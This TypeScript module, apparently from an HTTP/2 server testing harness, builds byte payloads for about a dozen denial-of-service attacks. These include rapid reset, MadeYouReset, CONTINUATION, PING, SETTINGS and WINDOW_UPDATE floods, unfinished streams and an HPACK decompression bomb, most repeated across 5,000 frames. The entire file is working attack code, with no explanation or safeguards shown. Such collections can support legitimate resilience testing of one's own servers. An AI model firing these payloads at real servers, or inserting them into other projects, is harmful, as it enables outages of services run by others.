/** Attacks on a server of HTTP/2: what a client sends once it is connected, five thousand frames of most. */
import { frame, uint32 } from './frame-bytes.ts';
import { block, GET, POST } from './requests.ts';

const FRAMES = 5_000;
const id = (at: number): number => at * 2 + 1;
const get = block(GET);
const post = block(POST);
const heads = (make: (at: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: FRAMES }, (_, at) => make(at)));
/** The largest table entry there may be, and 16,000 references to it. */
const bomb = Buffer.concat([
  get,
  Buffer.from('4001787fa11e', 'hex'),
  Buffer.alloc(4_000, 'x'),
  Buffer.alloc(12_000, 0xbe),
]);

export const RECIPES: readonly { name: string; bytes: Buffer; before?: Buffer }[] = [
  {
    name: 'rapid reset',
    bytes: heads((at) => Buffer.concat([frame(1, 5, id(at), get), frame(3, 0, id(at), uint32(8))])),
  },
  {
    name: 'MadeYouReset by increments of 0',
    bytes: heads((at) => Buffer.concat([frame(1, 4, id(at), post), frame(8, 0, id(at), uint32(0))])),
  },
  {
    name: 'MadeYouReset by content beyond the end',
    bytes: heads((at) => Buffer.concat([frame(1, 5, id(at), get), frame(0, 0, id(at), '00')])),
  },
  { name: 'streams never finished', bytes: heads((at) => frame(1, 4, id(at), post)) },
  { name: 'CONTINUATION flood', before: frame(1, 0, 1, get), bytes: heads(() => frame(9, 0, 1)) },
  {
    name: 'CONTINUATION flood of full frames',
    before: frame(1, 0, 1, get),
    bytes: Buffer.concat(Array.from({ length: 100 }, () => frame(9, 0, 1, Buffer.alloc(16_384)))),
  },
  { name: 'PING flood', bytes: heads(() => frame(6, 0, 0, '0000000000000000')) },
  { name: 'SETTINGS flood', bytes: heads(() => frame(4, 0, 0, '000400010000')) },
  { name: 'empty DATA flood', before: frame(1, 4, 1, post), bytes: heads(() => frame(0, 0, 1)) },
  { name: 'PRIORITY flood', bytes: heads((at) => frame(2, 0, id(at), '0000000010')) },
  { name: 'WINDOW_UPDATE flood', before: frame(1, 4, 1, post), bytes: heads(() => frame(8, 0, 1, uint32(1))) },
  {
    name: 'HPACK bomb',
    bytes: Buffer.concat(
      Array.from({ length: 60 }, (_, at) =>
        frame(1, 5, id(at), at === 0 ? bomb : Buffer.concat([get, Buffer.alloc(16_000, 0xbe)])),
      ),
    ),
  },
  {
    name: 'windows never opened',
    before: frame(4, 0, 0, '000400000000'),
    bytes: heads((at) => frame(1, 5, id(at), get)),
  },
];
